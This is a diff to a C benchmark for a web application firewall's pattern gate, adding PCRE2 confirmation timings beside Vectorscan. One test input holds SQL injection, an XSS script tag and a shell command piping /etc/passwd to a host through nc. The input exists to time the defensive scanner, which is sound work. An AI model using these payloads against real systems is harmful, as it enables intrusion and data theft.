@@ -2,8 +2,12 @@
 /*
  * bench_waf_gate.c - what the gate costs and keeps away: the patterns of the
  * Core Rule Set (4.28 beside the source, else 3 of the system) over what
- * people send and over long texts; beside it Vectorscan with the same
- * expressions, where it is installed.
+ * people send and over long texts.
+ *
+ * "gate" is the gate alone with all patterns.  The rest does the same work in
+ * three ways, which of the expressions that look at arguments match: with the
+ * gate and then PCRE2 ("gate+pcre2"), with PCRE2 for each ("pcre2"), and with
+ * Vectorscan where it is installed.
  *
  *     bench-waf-gate
  *
@@ -13,6 +17,7 @@
 
 #include "base/clock.h"
 #include "gate_crs.h"
+#include "guard/waf/rx.h"
 
 #ifdef HB_BENCH_HS
 #include <hs.h>
@@ -50,6 +55,29 @@ static void own_scan(void *arg, struct hb_slice value)
     o->seen |= set.w[0] | set.w[hb_waf_gate_words(o->gate) - 1];
 }
 
+/* The expressions that look at arguments. */
+struct confirm {
+    const struct hb_waf_gate *gate; /* NULL: try all */
+    struct hb_waf_rx *rx[HB_WAF_GATE_MAX];
+    struct hb_waf_rx_scratch *scratch;
+    struct hb_waf_gate_set args;
+    size_t matches;
+};
+
+static void confirm_scan(void *arg, struct hb_slice value)
+{
+    struct confirm *c = arg;
+    struct hb_waf_gate_set set = c->args;
+
+    if (c->gate != NULL)
+        hb_waf_gate_scan(c->gate, value, &set);
+    for (uint32_t i = 0; i < (crs.n + 63) / 64; i++)
+        for (uint64_t w = set.w[i] & c->args.w[i]; w != 0; w &= w - 1)
+            c->matches +=
+                hb_waf_rx_match(c->rx[i * 64 + (uint32_t)__builtin_ctzll(w)],
+                                c->scratch, value, 0, NULL) == HB_WAF_RX_YES;
+}
+
 static double best_ns(scan_fn *fn, void *arg, struct hb_slice v, size_t rounds)
 {
     double best = 0;
@@ -81,7 +109,7 @@ static double speed(const char *who, const char *what, const char *piece,
     return mb;
 }
 
-static void measure(const char *who, scan_fn *fn, void *arg)
+static void short_values(const char *who, scan_fn *fn, void *arg)
 {
     double sum = 0;
 
@@ -96,6 +124,11 @@ static void measure(const char *who, scan_fn *fn, void *arg)
     (void)printf("{\"engine\":\"%s\",\"values\":%zu,\"ns_a_value\":%.0f}\n",
                  who, HB_ARRAY_LEN(gate_typical),
                  sum / (double)HB_ARRAY_LEN(gate_typical));
+}
+
+static void measure(const char *who, scan_fn *fn, void *arg)
+{
+    short_values(who, fn, arg);
     (void)speed(who, "letters", "abcdefghijklmnopqrstuvwxyz0123456789", fn,
                 arg);
     (void)speed(who, "base64", "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9", fn, arg);
@@ -111,6 +144,24 @@ static void measure(const char *who, scan_fn *fn, void *arg)
                 "1' or 1=1 union select password from users-- <script>alert(1)"
                 "</script> ;cat /etc/passwd|nc 10.0.0.1 80",
                 fn, arg);
+}
+
+static void bench_confirm(const struct hb_waf_gate *g)
+{
+    static struct confirm c;
+
+    c.scratch = hb_waf_rx_scratch_new(0, 0);
+    for (uint32_t i = 0; c.scratch != NULL && i < crs.n; i++)
+        if (crs.p[i].rx && crs.p[i].args &&
+            hb_waf_rx_compile(&c.rx[i], crs.p[i].text, NULL) == 0)
+            c.args.w[i >> 6] |= (uint64_t)1 << (i & 63);
+    c.gate = g;
+    short_values("gate+pcre2", confirm_scan, &c);
+    c.gate = NULL;
+    short_values("pcre2", confirm_scan, &c);
+    for (uint32_t i = 0; i < crs.n; i++)
+        hb_waf_rx_free(c.rx[i]);
+    hb_waf_rx_scratch_free(c.scratch);
 }
 
 static void bench_own(void)
@@ -148,6 +199,7 @@ static void bench_own(void)
                  crs.n, tried / (double)HB_ARRAY_LEN(gate_typical),
                  args / (double)HB_ARRAY_LEN(gate_typical));
     measure("gate", own_scan, &o);
+    bench_confirm(g);
     hb_waf_gate_free(g);
 }
 
@@ -203,7 +255,7 @@ static void bench_other(struct hb_arena *a)
     double from;
 
     for (uint32_t i = 0; i < crs.n; i++) {
-        if (!crs.p[i].rx)
+        if (!crs.p[i].rx || !crs.p[i].args)
             continue;
         z[n] = hb_arena_dup(a, crs.p[i].text.p, crs.p[i].text.n);
         flags[n] = base;
